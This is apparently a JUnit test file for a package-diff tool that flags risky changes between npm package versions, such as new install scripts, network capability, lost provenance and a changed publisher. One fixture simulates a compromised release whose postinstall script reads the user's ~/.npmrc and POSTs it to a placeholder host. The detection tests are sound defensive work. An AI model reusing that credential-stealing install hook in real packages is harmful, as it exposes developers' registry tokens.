package dev.portcullis.diff;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.groups.Tuple.tuple;

import dev.portcullis.analysis.PackageAnalyzer;
import dev.portcullis.analysis.PackageInput;
import dev.portcullis.analysis.meta.TarballManifest;
import dev.portcullis.diff.PackageDiff.CapabilityChange;
import dev.portcullis.diff.PackageDiff.Content;
import dev.portcullis.diff.PackageDiff.DependencyChange;
import dev.portcullis.diff.PackageDiff.Direction;
import dev.portcullis.diff.PackageDiff.FileChange;
import dev.portcullis.diff.PackageDiff.PublicationChange;
import dev.portcullis.diff.PackageDiff.ScriptChange;
import dev.portcullis.diff.PackageDiff.Status;
import dev.portcullis.tarball.TarballLimits;
import dev.portcullis.tarball.TarballReader;
import dev.portcullis.testkit.TarballBuilder;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Two versions of a package, each a real gzipped tarball read by the tarball reader and analysed by the default
 * rule set, compared by the differ: what a reviewer must see is there, in order, and bounded.
 */
class PackageDifferTest {
    private static final PackageAnalyzer ANALYZER = PackageAnalyzer.withDefaultRules();
    private static final PackageSide.Publication BY_ALICE = new PackageSide.Publication("alice <alice@example.com>",
            true, true);

    static PackageSide side(TarballBuilder tarball, PackageSide.Publication publication) throws IOException {
        PackageInput input = PackageInput.of(TarballReader.read(new ByteArrayInputStream(tarball.build()),
                TarballLimits.defaults()));
        PackageAnalyzer.Analysed analysed = ANALYZER.analyzeWithFacts(input);
        return new PackageSide(input.name(), input.version(), input.files(), analysed.facts(),
                TarballManifest.of(input.files()).orElse(null), publication, analysed.analysis().findings());
    }

    static TarballBuilder version(String version, String manifestExtra) {
        return TarballBuilder.tarball()
                .file("package/package.json", "{\"name\":\"left-align\",\"version\":\"" + version + "\""
                        + manifestExtra + "}")
                .file("package/README.md", "# left-align\n")
                .file("package/index.js", "module.exports = function leftAlign(s) {\n  return s.trimStart();\n};\n");
    }

    private final PackageDiffer differ = new PackageDiffer(DiffLimits.defaults());

    @Test
    void aCompromisedPatchRelease_showsItsInstallScriptCapabilitiesDependencyPublisherAndFindings() throws IOException {
        PackageSide old = side(version("1.0.0", ",\"dependencies\":{\"ansi-regex\":\"^5.0.0\"}"), BY_ALICE);
        PackageSide compromised = side(version("1.0.1", ",\"scripts\":{\"postinstall\":\"node setup.js\"},"
                        + "\"dependencies\":{\"ansi-regex\":\"^5.0.1\",\"helper-lib\":\"1.0.0\"}")
                        .file("package/setup.js", "const https = require('https');\nconst fs = require('fs');\n"
                                + "const os = require('os');\n"
                                + "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
                                + "https.request({hostname: 'collect.example', method: 'POST'}).end(t);\n"),
                new PackageSide.Publication("mallory <m@example.net>", false, true));

        PackageDiff diff = differ.diff(old, compromised);

        assertThat(diff.kind()).isEqualTo(PackageDiff.Kind.CHANGED);
        assertThat(diff.label()).isEqualTo("left-align 1.0.0 → 1.0.1");
        assertThat(diff.scripts()).containsExactly(new ScriptChange("postinstall", null, "node setup.js"));
        assertThat(diff.dependencies()).containsExactly(
                new DependencyChange("dependencies", "helper-lib", null, "1.0.0"),
                new DependencyChange("dependencies", "ansi-regex", "^5.0.0", "^5.0.1"));
        assertThat(diff.publication()).containsExactly(
                new PublicationChange("publisher", "alice <alice@example.com>", "mallory <m@example.net>"),
                new PublicationChange("provenance", "present", "absent"));
        assertThat(diff.publication().get(1).downgrade()).isTrue();
        assertThat(diff.capabilities()).filteredOn(c -> c.capability() == Capability.NETWORK)
                .extracting(CapabilityChange::direction, CapabilityChange::at, CapabilityChange::newToPackage)
                .containsExactly(tuple(Direction.GAINED, "setup.js:5", true));
        assertThat(diff.newFindings()).extracting(f -> f.rule().id()).contains("content/credential-exfiltration");
        assertThat(diff.newFindings().getFirst().severity().id()).isEqualTo("critical");
        assertThat(diff.files()).extracting(FileChange::path, FileChange::status).containsExactly(
                tuple("setup.js", Status.ADDED), tuple("package.json", Status.CHANGED));
        assertThat(diff.files().getFirst().diff()).startsWith("--- /dev/null\n+++ b/setup.js\n@@ -0,0 +1,5 @@\n")
                .contains("+https.request");
        assertThat(diff.headlines().getFirst()).matches("[0-9]+ new findings \\(critical\\)");
        assertThat(diff.headlines().subList(1, diff.headlines().size())).containsExactly("postinstall added",
                "publisher alice <alice@example.com> → mallory <m@example.net>", "provenance present → absent",
                "gains network", "1 new dependency");
    }

    @Test
    void aRefactorThatMovesCodeWithinAFile_isNoCapabilityChange_butANewFileWithTheSameCallIs() throws IOException {
        String fetcher = "const https = require('https');\nmodule.exports = (u) => https.get(u);\n";
        PackageSide old = side(version("2.0.0", "").file("package/net.js", fetcher), BY_ALICE);
        PackageSide moved = side(version("2.1.0", "").file("package/net.js", "// moved down\n\n" + fetcher)
                .file("package/other.js", fetcher), BY_ALICE);

        PackageDiff diff = differ.diff(old, moved);

        assertThat(diff.capabilities()).extracting(CapabilityChange::direction, CapabilityChange::at,
                CapabilityChange::newToPackage).containsExactly(tuple(Direction.GAINED, "other.js:2", false));
        assertThat(diff.newFindings()).extracting(f -> f.rule().id(), f -> f.location().toString())
                .containsExactly(tuple("content/network-access", "other.js:2"));
        assertThat(diff.publication()).isEmpty();
    }

    @Test
    void binaryMinifiedAndModeChanges_areSummarisedNotDumped() throws IOException {
        String minifiedOld = "!function(){" + "var a=1;".repeat(400) + "}();";
        String minifiedNew = "!function(){" + "var b=2;".repeat(400) + "}();";
        byte[] elf = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0};
        PackageSide old = side(version("3.0.0", "").file("package/dist/app.min.js", minifiedOld)
                .file("package/bin/tool", "#!/bin/sh\necho hi\n".getBytes(StandardCharsets.UTF_8), 0644), BY_ALICE);
        PackageSide neu = side(version("3.0.1", "").file("package/dist/app.min.js", minifiedNew)
                .file("package/bin/tool", "#!/bin/sh\necho hi\n".getBytes(StandardCharsets.UTF_8), 0755)
                .file("package/prebuilt/addon.node", elf, 0644), BY_ALICE);

        PackageDiff diff = differ.diff(old, neu);

        assertThat(diff.files()).extracting(FileChange::path, FileChange::status, FileChange::content,
                FileChange::diff, FileChange::note).containsExactly(
                tuple("prebuilt/addon.node", Status.ADDED, Content.BINARY, null, null),
                tuple("bin/tool", Status.CHANGED, Content.TEXT, null, "mode 644 → 755"),
                tuple("dist/app.min.js", Status.CHANGED, Content.MINIFIED, null, null),
                tuple("package.json", Status.CHANGED, Content.TEXT, """
                        --- a/package.json
                        +++ b/package.json
                        @@ -1,1 +1,1 @@
                        -{"name":"left-align","version":"3.0.0"}
                        +{"name":"left-align","version":"3.0.1"}
                        """, null));
        assertThat(diff.capabilities()).extracting(CapabilityChange::capability, CapabilityChange::at)
                .contains(tuple(Capability.NATIVE_BINARY, "prebuilt/addon.node"));
    }

    @Test
    void theUnifiedDiffIsBoundedPerFileAndPerPackage() throws IOException {
        StringBuilder a = new StringBuilder();
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < 300; i++) {
            a.append("line ").append(i).append('\n');
            b.append("line ").append(i).append(" changed\n");
        }
        DiffLimits small = new DiffLimits(512 * 1024, 5_000, 50, 80, 1_000, 200, 3);
        PackageSide old = side(version("4.0.0", "").file("package/a.txt", a.toString())
                .file("package/b.txt", a.toString()), BY_ALICE);
        PackageSide neu = side(version("4.0.1", "").file("package/a.txt", b.toString())
                .file("package/b.txt", b.toString()), BY_ALICE);

        PackageDiff diff = new PackageDiffer(small).diff(old, neu);

        FileChange first = diff.files().stream().filter(f -> f.path().equals("a.txt")).findFirst().orElseThrow();
        FileChange second = diff.files().stream().filter(f -> f.path().equals("b.txt")).findFirst().orElseThrow();
        assertThat(first.diff().lines()).hasSize(50);
        assertThat(first.note()).isEqualTo("553 more diff lines not shown");
        assertThat(second.diff().lines()).hasSize(30);
        assertThat(second.note()).isEqualTo("573 more diff lines not shown");
    }

    @Test
    void anAddedPackageListsItsFilesAndCapabilities_aRemovedOneOnlyItsSize() throws IOException {
        PackageSide only = side(version("1.0.0", "").file("package/run.js",
                "require('child_process').execSync('ls');\n"), BY_ALICE);

        PackageDiff added = differ.diff(null, only);
        PackageDiff removed = differ.diff(only, null);

        assertThat(added.kind()).isEqualTo(PackageDiff.Kind.ADDED);
        assertThat(added.label()).isEqualTo("left-align@1.0.0 (added)");
        assertThat(added.files()).extracting(FileChange::status).containsOnly(Status.ADDED);
        assertThat(added.capabilities()).extracting(CapabilityChange::capability, CapabilityChange::at)
                .contains(tuple(Capability.PROCESS, "run.js:1"));
        assertThat(removed.kind()).isEqualTo(PackageDiff.Kind.REMOVED);
        assertThat(removed.files()).isEmpty();
        assertThat(removed.size()).isEqualTo(new PackageDiff.Size(only.files().size(), 0, only.bytes(), 0));
    }

    @Test
    void packagesAreOrderedByWhatTheyAskOfAReviewer() throws IOException {
        PackageSide base = side(version("1.0.0", ""), BY_ALICE);
        PackageDiff docs = differ.diff(base, side(version("1.0.1", "").file("package/CHANGELOG.md", "# 1.0.1\n"),
                BY_ALICE));
        PackageDiff script = differ.diff(base, side(version("1.0.2", ",\"scripts\":{\"install\":\"node x.js\"}"),
                BY_ALICE));
        PackageDiff lostProvenance = differ.diff(base, side(version("1.0.3", ""),
                new PackageSide.Publication("alice <alice@example.com>", false, true)));

        assertThat(List.of(docs, lostProvenance, script).stream().sorted(PackageDiff.MOST_IMPORTANT_FIRST)
                .map(PackageDiff::to)).containsExactly("1.0.2", "1.0.3", "1.0.1");
    }

    @Test
    void anEditInTheMiddleOfALongFileIsOneHunkAtItsLine() throws IOException {
        StringBuilder a = new StringBuilder();
        for (int i = 1; i <= 100; i++) {
            a.append("line ").append(i).append('\n');
        }
        String b = a.toString().replace("line 50\n", "line fifty\nline 50b\n");
        PackageSide old = side(version("5.0.0", "").file("package/long.txt", a.toString()), BY_ALICE);
        PackageSide neu = side(version("5.0.1", "").file("package/long.txt", b), BY_ALICE);

        FileChange change = differ.diff(old, neu).files().stream().filter(f -> f.path().equals("long.txt"))
                .findFirst().orElseThrow();

        assertThat(change.diff()).isEqualTo("""
                --- a/long.txt
                +++ b/long.txt
                @@ -47,7 +47,8 @@
                 line 47
                 line 48
                 line 49
                -line 50
                +line fifty
                +line 50b
                 line 51
                 line 52
                 line 53
                """);
    }
}
